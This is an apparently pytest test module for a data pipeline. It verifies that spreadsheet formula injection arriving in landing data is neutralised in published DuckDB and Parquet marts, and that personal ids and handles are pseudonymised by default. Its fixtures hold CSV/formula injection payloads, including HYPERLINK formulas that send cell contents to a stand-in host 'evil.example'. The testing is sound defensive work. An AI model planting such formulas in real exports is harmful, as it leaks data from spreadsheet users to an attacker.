"""What reaches BI from a hostile landing (issue 20): formula text supplied as a brand
handle, members' handles, a campaign name and acquisition channels is neutralised in
every published mart (DuckDB and Parquet); CRM ids, people's social ids and handles
are absent unless the owner sets TC_PUBLISH_RAW_IDS=true."""

import json

import polars as pl
import pytest

from core.publish import is_formula, published_tables
from core.settings import Settings
from tests.conftest import environment, settings_for
from tests.pipeline.conftest import PipelineWorld
from trustcap.run import run_pipeline
from worlds.world import WorldConfig, generate
from worlds.writer import write_world

pytestmark = pytest.mark.xdist_group("published_privacy")

BRAND_HANDLE = '=HYPERLINK("http://evil.example/?"&A1,"AcmeHome")'
CAMPAIGN_NAME = '=HYPERLINK("http://evil.example/c","Spring sale")'
CHANNELS = ['=hyperlink("http://evil.example","social")', "@sum(1+1)", "-1+1"]


def hostile_world(root) -> PipelineWorld:
    """The demo world with formula text in handles, a campaign name and channels."""
    world = generate(WorldConfig(seed=7, scale=0.05))
    t = world.tables
    # members write their handle as '@name' (identity resolution strips the '@')
    t["social/accounts"] = t["social/accounts"].with_columns(
        pl.when(pl.col("account_id") == "brand_twitter")
        .then(pl.lit(BRAND_HANDLE))
        .when(~pl.col("is_brand"))
        .then("@" + pl.col("handle"))
        .otherwise(pl.col("handle"))
        .alias("handle")
    )
    t["costs/campaigns"] = t["costs/campaigns"].with_columns(
        pl.when(pl.col("campaign_id") == "CMP001")
        .then(pl.lit(CAMPAIGN_NAME))
        .otherwise(pl.col("name"))
        .alias("name")
    )
    channels = t["crm/contacts"]["acquisition_channel"].to_list()
    channels[:90] = CHANNELS * 30
    t["crm/contacts"] = t["crm/contacts"].with_columns(pl.Series("acquisition_channel", channels))
    settings = settings_for(root / "landing", root / "warehouse")
    write_world(world, settings.landing_dir, root / "truth")
    truth = json.loads((root / "truth" / "truth.json").read_text())
    return PipelineWorld(root, settings, truth, world)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> PipelineWorld:
    pw = hostile_world(tmp_path_factory.mktemp("hostile"))
    assert pw.run().success
    return pw


def published_text(pw: PipelineWorld) -> dict[tuple[str, str], set]:
    """Every text value of every published mart, through the DuckDB catalog and from
    its Parquet file (both must hold the same)."""
    con = pw.published()
    try:
        out: dict[tuple[str, str], set] = {}
        for table in published_tables(con):
            columns = con.execute(
                "select column_name from duckdb_columns() where schema_name = 'marts' "
                f"and table_name = '{table}' and data_type = 'VARCHAR'"
            ).fetchall()
            frame = pl.read_parquet(pw.settings.published_parquet_dir / f"{table}.parquet")
            for (column,) in columns:
                sql = f'select distinct "{column}" from marts.{table}'
                values = {v for (v,) in con.execute(sql).fetchall()}
                assert values == set(frame[column].unique().to_list()), (table, column)
                out[(table, column)] = values
        return out
    finally:
        con.close()


def _people(pw: PipelineWorld) -> tuple[set[str], set[str], set[str]]:
    accounts = pw.world.tables["social/accounts"].filter(~pl.col("is_brand"))
    handles = set(accounts["handle"].to_list())
    handles |= {h.lstrip("@") for h in handles}
    contacts = set(pw.world.tables["crm/contacts"]["contact_id"].to_list())
    return contacts, set(accounts["account_id"].to_list()), handles


def test_formula_text_from_the_landing_is_neutralised_in_every_published_mart(hostile):
    text = published_text(hostile)
    formulas = {(k, v) for k, values in text.items() for v in values if is_formula(v)}
    assert not formulas
    assert "'" + CAMPAIGN_NAME in text[("campaign_roi", "name")]
    assert "'" + BRAND_HANDLE in text[("responsiveness_by_account", "handle")]
    assert {"'" + c for c in CHANNELS} <= text[("acquisition_funnel", "acquisition_channel")]


def test_no_raw_id_or_handle_of_a_person_is_published_by_default(hostile):
    text = published_text(hostile)
    everything = set().union(*text.values())
    contacts, accounts, handles = _people(hostile)
    assert not everything & contacts
    assert not everything & accounts
    assert not everything & (handles | {"'" + h for h in handles})
    # people are there, under their keyed pseudonyms: the marts still join
    trust = text[("customer_trust", "contact_id")]
    assert trust == hostile.as_published(sorted(contacts), "contact")
    assert text[("advocates", "account_id")] <= hostile.as_published(
        sorted(accounts), "social_account"
    )
    assert text[("advocates", "contact_id")] - {None} <= trust
    assert text[("advocates", "handle")] == {None}
    con = hostile.published()
    try:
        linked = con.execute(
            "select count(*) from marts.advocates join marts.customer_trust using (contact_id)"
        ).fetchone()[0]
    finally:
        con.close()
    assert linked > 0


def test_the_owner_can_publish_raw_ids_knowingly(hostile):
    with hostile.env(), environment(TC_PUBLISH_RAW_IDS="true"):
        assert run_pipeline(Settings.from_env()).success
    text = published_text(hostile)
    contacts, accounts, handles = _people(hostile)
    assert text[("customer_trust", "contact_id")] == contacts
    assert text[("advocates", "account_id")] <= accounts
    published_handles = text[("advocates", "handle")] - {None}
    # people's handles, each neutralised: they start with '@' in this landing
    assert published_handles and all(h.startswith("'@") for h in published_handles)
    assert {h[1:] for h in published_handles} <= handles
    assert not [v for values in text.values() for v in values if is_formula(v)]
